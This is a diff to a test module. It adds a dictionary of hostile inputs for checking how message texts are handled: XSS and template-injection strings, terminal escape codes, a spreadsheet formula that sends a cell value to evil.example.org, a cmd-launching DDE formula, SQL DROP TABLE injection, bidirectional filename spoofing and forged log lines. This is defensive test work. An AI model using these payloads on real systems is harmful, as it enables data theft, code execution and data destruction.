@@ -141,3 +141,17 @@ _MESSAGES: list[tuple[str, str, Callable[[int], bytes], str]] = [
     ("numbers as text and 0x04", FTS_START, lambda n: _start(timestamp=f"{T}.000000")(n) + b"\x04", ROW),
     ("NUL and half a surrogate pair", FTS_START, _start(t_channel="a\0b\ud800"), ROW),
 ]
+
+TEXTS = {
+    "HTML": '<script>alert(1)</script><img src=x onerror=alert(1)>" onmouseover="alert(1)\' {{7*7}} &lt;b&gt;',
+    "ANSI": "\x1b[2J\x1b]0;owned\x07\x1b[31mred\x9b1A",
+    "formula": '=HYPERLINK("http://evil.example.org?"&A1,"total")',
+    "formula behind a tab": "\t=1+1",
+    "another formula": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "SQL": "'; DROP TABLE store.transfer; -- \\'; %s %(x)s {0}",
+    "bidirectional": "safe\u202egnp.exe\u2066 \u200bend\u2069",
+    "lines": "first\r\n2026-11-27 12:00:00,000 CRITICAL root: forged\n\u2028third",
+    "markup of rich": "[bold red]x[/] [link=http://evil.example.org]y[/link]",
+    "a MB": "x\u0301" * 300_000,
+}
+"""What somebody may write into any text of a message."""
